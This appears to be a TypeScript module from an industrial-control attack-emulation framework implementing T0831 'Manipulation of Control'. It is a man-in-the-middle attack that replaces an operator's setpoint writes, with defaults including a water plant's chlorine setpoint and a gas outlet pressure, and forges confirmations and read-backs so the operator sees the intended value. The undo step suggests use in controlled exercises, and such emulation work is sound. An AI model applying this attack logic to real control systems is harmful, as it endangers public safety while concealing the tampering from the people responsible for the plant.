// T0831 Manipulation of Control: somebody on the wire alters what the rightful operator writes, and shows the operator what
// was meant.
import { z } from 'zod'
import { bilingual } from '#runtime/config-file.ts'
import type { Attack } from './attack.ts'
import { putBack } from './hold.ts'
import { TagOnWire } from './tag-on-wire.ts'
import { TargetTag, TargetValue } from './target.ts'
import { plantsOf, type Usual, usualIn } from './usual.ts'

const USUAL: Usual<{ tag: string; value: number }> = {
  water: { tag: 'chlorine.setpoint', value: 1.5 },
  heat: { tag: 'night.reduction', value: 15 },
  gas: { tag: 'outlet.pressure-setpoint', value: 4.8 }
}

const Parameters = z
  .strictObject({
    tag: TargetTag('setpoint', 'command')
      .optional()
      .describe('The tag whose writes are altered; by default one that matters in the plant.'),
    value: TargetValue().optional().describe('What reaches the PLC in their place, in the unit of the tag; needed with a tag of your own.'),
    hide: z.boolean().default(true).describe('Whether the operator reads back what was meant.')
  })
  .refine(({ tag, value }) => tag === undefined || value !== undefined, {
    path: ['tag'],
    error: bilingual('须同时给出 value', 'needs value beside it')
  })

export const spoofedRequest = {
  name: 'spoofed-request',
  title: { zh: '指令篡改（中间人）', en: 'Orders altered on their way' },
  technique: 'T0831',
  plants: plantsOf(USUAL),
  needs: ['tamper'],
  parameters: Parameters,
  async aim(foothold, { hide, ...wanted }) {
    const { map, tamper, rightful } = foothold
    const usual = usualIn(USUAL, map.plant)
    const { tag = usual.tag, value = usual.value } = wanted
    const wire = new TagOnWire(map, tag)
    // Only to learn from where it will be put right in the end.
    await using own = await foothold.link()
    let meant: number | undefined
    const asMeant = (real: number) => meant ?? real
    let giveBack: (() => void) | undefined
    const self = {}
    return {
      ...{ tags: [tag], hosts: [own.host], insistSeconds: 0 },
      async strike() {
        giveBack = tamper?.('operator', {
          request: (pdu) =>
            wire.inRequest(pdu, (wanted) => {
              meant = wanted
              // Nothing of it is in the PLC before; what people order after this they tell themselves.
              rightful.hold(self, { [tag]: wanted })
              return value
            }),
          // The one who asks knows what a confirmation must say, so that one is altered in any case.
          reply: (request, reply) => {
            const confirmed = wire.inConfirmation(reply, asMeant)
            return hide ? wire.inReply(request, confirmed, asMeant) : confirmed
          }
        })
      },
      async undo() {
        giveBack?.()
        giveBack = undefined
        await putBack(foothold, self)
      }
    }
  }
} satisfies Attack<typeof Parameters>
